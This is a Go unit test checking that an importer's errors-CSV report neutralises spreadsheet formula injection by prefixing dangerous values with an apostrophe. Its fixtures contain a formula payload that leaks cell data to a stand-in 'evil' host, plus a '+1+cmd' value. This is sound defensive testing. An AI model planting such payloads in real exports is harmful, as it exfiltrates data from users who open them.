package ingest

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
)

// TestErrorsCSVEscapesFormulas (fifth audit): the --errors report is made
// for Excel and echoes the rejected values of partners' exports, which an
// attacker may have written: a value that a spreadsheet would run as a
// formula comes out with a leading apostrophe, every column of the report
// alike, and the values read back otherwise unchanged.
func TestErrorsCSVEscapesFormulas(t *testing.T) {
	im, _, _ := newImporter(t)
	dir := t.TempDir()
	const formula = `=HYPERLINK("http://evil/?"&A1,"详情")`
	f := writeFile(t, dir, "posts.csv", "source,external_id,title,employer,district,salary,description\n"+
		`boss,1,会计,新疆天山会计服务有限公司,天山区,"`+strings.ReplaceAll(formula, `"`, `""`)+`",负责账务`+"\n"+
		"boss,2,出纳,新疆天山会计服务有限公司,天山区,+1+cmd,负责现金\n"+
		"boss,3,文员,新疆天山会计服务有限公司,天山区,abc,负责文书\n")
	rep, err := im.Import(context.Background(), EntityPosts, []string{f})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteErrorsCSV(&buf, rep.Errors); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte{0xEF, 0xBB, 0xBF}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	values := map[string]bool{}
	for _, rec := range recs[1:] {
		for i, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("report column %s starts with a formula character: %q", recs[0][i], c)
			}
		}
		values[rec[4]] = true
	}
	for _, want := range []string{"'" + formula, "'+1+cmd", "abc"} {
		if !values[want] {
			t.Errorf("no rejected value %q in the report: %v", want, values)
		}
	}
}
